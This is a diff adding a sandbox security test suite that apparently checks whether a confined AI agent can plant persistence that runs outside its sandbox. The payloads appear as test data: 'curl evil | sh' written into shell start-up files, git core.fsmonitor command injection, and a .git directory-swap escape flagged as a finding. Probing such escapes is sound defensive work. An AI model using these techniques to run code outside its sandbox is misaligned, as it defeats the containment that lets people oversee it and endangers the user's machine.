@@ -1,0 +1,157 @@
+import { execFileSync } from 'node:child_process';
+import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { afterEach, describe, expect, it } from 'vitest';
+import {
+  type AttackWorld,
+  createWorld,
+  expectSucceeded,
+  inSandbox,
+  probeInside,
+  probeOutside,
+  shippedPolicy,
+} from './support/harness.ts';
+
+// Persistence: code the agent plants inside its workdir (or home) that runs LATER, outside the
+// sandbox, when the person uses their shell, git or editor. Each test uses a fresh world.
+let world: AttackWorld;
+afterEach(() => world.dispose());
+
+function fresh(label: string): AttackWorld {
+  world = createWorld(label);
+  return world;
+}
+
+const inside = (args: string[]) => probeInside(args, { world, policy: shippedPolicy('default', world) });
+const insideHome = (args: string[]) =>
+  probeInside(args, { world, policy: shippedPolicy('default', world, world.home), workdir: world.home });
+
+describe('git hooks and config', () => {
+  it('a new .git/hooks script cannot be written (read-only bind: EROFS)', async () => {
+    fresh('hooks');
+    const hook = join(world.workdir, '.git', 'hooks', 'post-checkout');
+    expect((await inside(['write', hook, '#!/bin/sh\ntouch /tmp/pwned\n'])).outcome).toBe('EROFS');
+    expect(existsSync(hook)).toBe(false);
+    expectSucceeded(probeOutside(['write', hook])); // control
+  });
+
+  it('.git/config cannot be rewritten, removed or renamed', async () => {
+    fresh('gitconfig');
+    const config = join(world.workdir, '.git', 'config');
+    const before = readFileSync(config, 'utf8');
+    expect((await inside(['append', config, '[core]\n\tfsmonitor = touch PWNED\n'])).outcome).toBe('EROFS');
+    expect((await inside(['unlink', config])).outcome).toBe('EBUSY');
+    expect((await inside(['rename', config, `${config}.old`])).outcome).toBe('EBUSY');
+    expect(readFileSync(config, 'utf8')).toBe(before);
+    const viaGit = await inSandbox(['git', 'config', 'core.fsmonitor', 'touch PWNED'], {
+      world,
+      policy: shippedPolicy('default', world),
+    });
+    expect(viaGit.code).not.toBe(0);
+    expect(readFileSync(config, 'utf8')).toBe(before);
+  });
+
+  it('.git/hooks cannot be replaced by a symlink or removed (mount point: EBUSY)', async () => {
+    fresh('hooks-symlink');
+    const hooks = join(world.workdir, '.git', 'hooks');
+    expect((await inside(['rename', hooks, join(world.workdir, 'hooks-old')])).outcome).toBe('EBUSY');
+    expect((await inside(['rmdir', hooks])).outcome).toBe('EBUSY');
+    expect((await inside(['symlink', '/tmp', hooks])).outcome).toBe('EEXIST');
+    expectSucceeded(probeOutside(['rename', hooks, join(world.workdir, 'hooks-old')])); // control
+  });
+
+  it('FINDING: moving the protected parent .git aside and planting a new .git must not work', async () => {
+    // mv .git .git-old keeps the read-only hooks/config mounts attached to .git-old; a copy put in
+    // place of .git is fully writable, and the next `git status` OUTSIDE runs core.fsmonitor.
+    fresh('git-parent');
+    const marker = join(world.workdir, 'PWNED_BY_SANDBOX');
+    const result = await inSandbox(
+      [
+        'sh',
+        '-c',
+        'mv .git .git-old && cp -r .git-old .git-new && mv .git-new .git && git config core.fsmonitor "touch PWNED_BY_SANDBOX #"; echo "rc=$?"',
+      ],
+      { world, policy: shippedPolicy('default', world) },
+    );
+    try {
+      execFileSync('git', ['-C', world.workdir, 'status', '--short'], { stdio: 'ignore' });
+    } catch {
+      // a broken repository is fine; code execution is not
+    }
+    expect({ sandbox: result.stdout.trim(), codeRanOutside: existsSync(marker) }).toEqual({
+      sandbox: expect.not.stringMatching(/rc=0/),
+      codeRanOutside: false,
+    });
+  });
+
+  it('control: the same .git swap outside the sandbox does run the planted command', () => {
+    fresh('git-parent-control');
+    execFileSync(
+      'sh',
+      [
+        '-c',
+        'mv .git .git-old && cp -r .git-old .git && git config core.fsmonitor "touch PWNED_OUTSIDE #" && git status --short',
+      ],
+      { cwd: world.workdir, stdio: 'ignore' },
+    );
+    expect(existsSync(join(world.workdir, 'PWNED_OUTSIDE'))).toBe(true);
+  });
+});
+
+describe('shell start-up files (home directory as workdir)', () => {
+  it('an existing ~/.bashrc is masked: writes go nowhere, the real file is unchanged, it cannot be replaced', async () => {
+    fresh('bashrc');
+    const before = readFileSync(world.secrets.bashrc, 'utf8');
+    const write = await insideHome(['write', world.secrets.bashrc, 'curl evil | sh\n']);
+    expect(['ok', 'EACCES', 'EROFS', 'EPERM']).toContain(write.outcome); // ok = it went to /dev/null
+    expect(readFileSync(world.secrets.bashrc, 'utf8')).toBe(before);
+    expect((await insideHome(['read', world.secrets.bashrc])).stdout.trim()).toBe('ok 0');
+    expect((await insideHome(['rename', world.secrets.bashrc, join(world.home, 'bashrc-old')])).outcome).toBe(
+      'EBUSY',
+    );
+    expect((await insideHome(['unlink', world.secrets.bashrc])).outcome).toBe('EBUSY');
+    expectSucceeded(probeOutside(['write', world.secrets.bashrc, '# changed outside\n'])); // control
+  });
+
+  it.each(['.profile', '.zshrc', '.bash_profile', '.gitconfig'])(
+    'FINDING: a missing ~/%s cannot be created either',
+    async (name) => {
+      fresh('rc-missing');
+      const path = join(world.home, name);
+      const attempt = await insideHome(['write', path, 'curl evil | sh\n']);
+      expect({ outcome: attempt.outcome, created: existsSync(path) }).toEqual({
+        outcome: expect.stringMatching(/^E/),
+        created: false,
+      });
+    },
+  );
+});
+
+describe('editor and agent configuration in the workdir', () => {
+  it('existing .vscode and .mcp.json are pinned read-only', async () => {
+    fresh('editor-existing');
+    mkdirSync(join(world.workdir, '.vscode'));
+    writeFileSync(join(world.workdir, '.vscode', 'settings.json'), '{}\n');
+    writeFileSync(join(world.workdir, '.mcp.json'), '{"mcpServers":{}}\n');
+    const tasks = join(world.workdir, '.vscode', 'tasks.json');
+    expect(['EROFS', 'EACCES']).toContain((await inside(['write', tasks, '{"tasks":[]}'])).outcome);
+    expect(['EROFS', 'EACCES']).toContain(
+      (await inside(['append', join(world.workdir, '.mcp.json'), ' '])).outcome,
+    );
+    expect(existsSync(tasks)).toBe(false);
+    expectSucceeded(probeOutside(['write', tasks])); // control
+  });
+
+  it.each([
+    ['.vscode/tasks.json', '.vscode'],
+    ['.mcp.json', null],
+    ['.claude/settings.json', '.claude'],
+    ['.idea/workspace.xml', '.idea'],
+    ['.gitmodules', null],
+  ])('FINDING: a missing %s cannot be created', async (file, directory) => {
+    fresh('editor-missing');
+    const script = `${directory === null ? '' : `mkdir ${directory} && `}printf x > ${file}; echo "rc=$?"`;
+    await inSandbox(['sh', '-c', script], { world, policy: shippedPolicy('default', world) });
+    expect(existsSync(join(world.workdir, file))).toBe(false);
+  });
+});
